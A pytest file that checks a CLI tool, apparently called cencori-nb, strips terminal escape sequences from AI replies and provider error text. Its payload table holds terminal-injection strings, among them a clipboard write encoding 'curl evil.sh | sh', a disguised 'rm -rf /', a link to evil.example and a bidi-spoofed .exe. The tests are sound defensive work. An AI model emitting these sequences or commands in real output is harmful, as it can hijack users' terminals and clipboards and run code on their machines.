"""A reply is data on a terminal too: `cencori-nb ask` never hands a terminal the escape
sequences a hostile reply (or a provider's error text) carries.

Each payload is echoed back by the sandbox (``SANDBOX-ECHO:``, a real server) or sent as a
provider error (``SANDBOX-ERROR:``). On a terminal (a real pseudo-terminal here) nothing a
terminal acts on arrives; into a pipe the reply goes byte for byte, as a file should get it.
"""

from __future__ import annotations

import os
import pty
import select
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from cencori_nb import keys
from cencori_nb.safe_html import terminal_text

PAYLOADS = {
    "window title (OSC 0)": "before\x1b]0;owned by a reply\x07after",
    "clipboard write (OSC 52)": "copy\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07this",
    "hyperlink (OSC 8)": "\x1b]8;;https://evil.example\x1b\\click here\x1b]8;;\x1b\\ ok",
    "colour and hide (CSI)": "\x1b[8mhidden\x1b[0m\x1b[2J\x1b[Hcleared",
    "cursor up and rewrite": "line one\n\x1b[1A\x1b[2Kforged line",
    "DCS string": "dcs\x1bPq#0;2;0;0;0#1~~\x1b\\end",
    "C1 CSI (8-bit)": "eight\x9b31mbit",
    "reset (RIS)": "reset\x1bcnow",
    "carriage return overwrite": "rm -rf /\r# all is well",
    "bidi override": "invoice\u202efdp.exe",
    "backspaces": "sudo\x08\x08\x08\x08echo",
    "bell and SOH": "ding\x07\x01done",  # (NUL cannot travel in argv)
}

OPENAI_KEY = "sk-test-terminal-" + "T" * 24 + "t1t2"


def _env(home: Path, sandbox_url: str) -> dict[str, str]:
    return {
        **os.environ,
        "CENCORI_NB_HOME": str(home),
        "CENCORI_NB_SANDBOX": sandbox_url,
        "TERM": "xterm",
    }


def _run_on_a_terminal(argv: list[str], env: dict[str, str]) -> tuple[int, bytes, bytes]:
    """Run with stdout on a pseudo-terminal (what a person's shell gives it)."""
    master, slave = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "cencori_nb", *argv],
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=subprocess.PIPE,
    )
    os.close(slave)
    out = b""
    while True:
        ready, _, _ = select.select([master], [], [], 60)
        if not ready:
            break
        try:
            chunk = os.read(master, 65536)
        except OSError:  # the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    os.close(master)
    err = proc.stderr.read() if proc.stderr else b""
    return proc.wait(timeout=60), out, err


@pytest.fixture
def sbx(sandbox: Any, private_home: Path) -> Any:
    os.environ["CENCORI_NB_SANDBOX"] = sandbox.url  # private_home restores the env
    keys.set("openai", OPENAI_KEY, default_model="gpt-4o-mini", make_default=True)
    return sandbox


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_a_reply_reaches_a_terminal_without_escapes(
    name: str, sbx: Any, private_home: Path
) -> None:
    payload = PAYLOADS[name]
    code, out, err = _run_on_a_terminal(
        ["ask", "--no-cache", "SANDBOX-ECHO:" + payload], _env(private_home, sbx.url)
    )
    assert code == 0, err
    text = out.decode("utf-8", "replace").replace("\r\n", "\n")  # the pty's own newlines
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, repr(text)
    assert "\u202e" not in text and "\x08" not in text and "\x01" not in text
    assert terminal_text(payload).strip() in text  # the visible text is all there
    assert b"\x1b" not in err


def test_a_reply_goes_into_a_pipe_byte_for_byte(sbx: Any, private_home: Path) -> None:
    payload = PAYLOADS["window title (OSC 0)"]
    out = subprocess.run(
        [sys.executable, "-m", "cencori_nb", "ask", "--no-cache", "SANDBOX-ECHO:" + payload],
        env=_env(private_home, sbx.url),
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert out.returncode == 0, out.stderr
    assert out.stdout.decode() == payload + "\n"


@pytest.mark.parametrize(
    "name", ["window title (OSC 0)", "clipboard write (OSC 52)", "colour and hide (CSI)"]
)
def test_a_provider_error_line_carries_no_escapes(name: str, sbx: Any, private_home: Path) -> None:
    out = subprocess.run(
        [
            sys.executable,
            "-m",
            "cencori_nb",
            "ask",
            "--no-cache",
            "SANDBOX-ERROR:" + PAYLOADS[name],
        ],
        env=_env(private_home, sbx.url),
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert out.returncode == 1
    assert (
        out.stderr.count(b"\n") == 1 and b"\x1b" not in out.stderr and b"\x07" not in (out.stderr)
    )


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_split_anywhere_a_stream_shows_what_the_whole_reply_shows(name: str) -> None:
    """However the deltas cut the reply, the terminal sees exactly terminal_text(reply):
    no half of a sequence slips through between two pieces."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from cencori_nb.safe_html import TerminalStream

    payload = PAYLOADS[name]

    @settings(max_examples=150, deadline=None)
    @given(st.lists(st.integers(1, max(1, len(payload) - 1)), max_size=8))
    def check(cuts: list[int]) -> None:
        points = sorted(set(cuts))
        parts = [payload[a:b] for a, b in zip([0, *points], [*points, len(payload)], strict=True)]
        stream = TerminalStream()
        shown = "".join(stream.feed(p) for p in parts) + stream.close()
        assert shown == terminal_text(payload)

    check()
